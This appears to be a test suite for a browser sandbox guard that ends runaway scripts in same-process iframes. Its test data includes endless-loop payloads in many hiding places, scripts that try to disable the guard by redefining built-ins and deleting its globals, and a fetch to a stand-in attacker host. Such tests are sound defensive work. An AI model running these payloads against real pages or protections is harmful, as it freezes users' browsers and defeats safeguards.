/** Scripts that never end, in a frame that shares the page's process, as in Firefox and WebKit: nothing but the guard can end them. Not: a frame with a process of its own (payload-escape.test.ts). */
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { closeBrowser, startWith } from './browser';
import { arrived, expectAlive, openAgain, openPayloads, run, said, type OpenedPayloads } from './victim';

let opened: OpenedPayloads;
beforeAll(async () => {
  await startWith('--disable-features=IsolateSandboxedIframes', '--disable-site-isolation-trials');
  opened = await openPayloads();
});
beforeEach(() => openAgain(opened));
afterEach(() => {
  expect(opened.sent).toEqual([]);
});
afterAll(closeBrowser);

const script = (text: string) => `<script>${text}</script>`;

const LOOPS: readonly [name: string, markup: string][] = [
  ['in a script', script('while (true) {}')],
  ['in a handler', '<img src=x onerror="for(;;);">'],
  ['in a timer', script('setTimeout(() => { for (;;) {} }, 50)')],
  ['of promises', script('(async () => { for (;;) await 0; })()')],
  ['of calls that catch', script('(function f() { try { f() } catch { f() } })()')],
  [
    'in a handler that script writes as markup',
    script(`document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="for(;;);">')`),
  ],
  [
    'in a handler that script sets and calls at once',
    script(`const b = document.createElement('b'); b.setAttribute('onclick', 'for(;;);'); b.click()`),
  ],
  [
    'in a script that script makes',
    script(`const s = document.createElement('script'); s.text = 'for(;;);'; document.head.append(s)`),
  ],
  ['in a script that script writes', script(`document.write('<scr' + 'ipt>for(;;);</scr' + 'ipt>')`)],
  [
    'after everything that the guard uses was redefined',
    script(`performance.now = Date.now = () => 0;
for (const prototype of [MessagePort.prototype, EventTarget.prototype, Array.prototype, String.prototype])
  for (const name of Object.getOwnPropertyNames(prototype)) try { prototype[name] = () => { for (;;); }; } catch {}
for (;;);`),
  ],
  [
    'after the guard was attacked',
    script(`for (const name of Object.getOwnPropertyNames(window).filter((each) => each.startsWith('guard_'))) {
  try { window[name] = () => undefined; } catch {}
  try { Object.defineProperty(window, name, { value: () => undefined }); } catch {}
  delete window[name];
}
try { trustedTypes.createPolicy('default', { createScript: (text) => text }); } catch {}
const s = document.createElement('script'); s.text = 'for(;;);'; document.head.append(s);`),
  ],
];

test('an endless loop is ended wherever it is, and the app goes on', async () => {
  for (const [name, markup] of LOOPS) {
    await run(opened, { mode: 'session', markup });
    await opened.page.locator('[data-ended]').waitFor();
    expect([name, await opened.page.locator('[data-ended]').textContent()]).toEqual([
      name,
      expect.stringContaining('ran for over a second without a pause'),
    ]);
    expect(await opened.page.locator('iframe').count()).toBe(0);
  }
  await expectAlive(opened);
});

test('a script that works for less than a second at a time is left alone', async () => {
  const markup = script(`let rounds = 0;
const work = () => {
  const end = performance.now() + 300;
  while (performance.now() < end);
  rounds += 1;
  if (rounds < 6) setTimeout(work);
  else fetch('https://evil.example/' + rounds).then(() => console.log('all rounds'));
};
work();`);
  await run(opened, { mode: 'session', markup });
  await said(opened, 'all rounds');
  expect(await arrived(opened)).toEqual(['']);
  expect(await opened.page.locator('[data-ended]').count()).toBe(0);
});
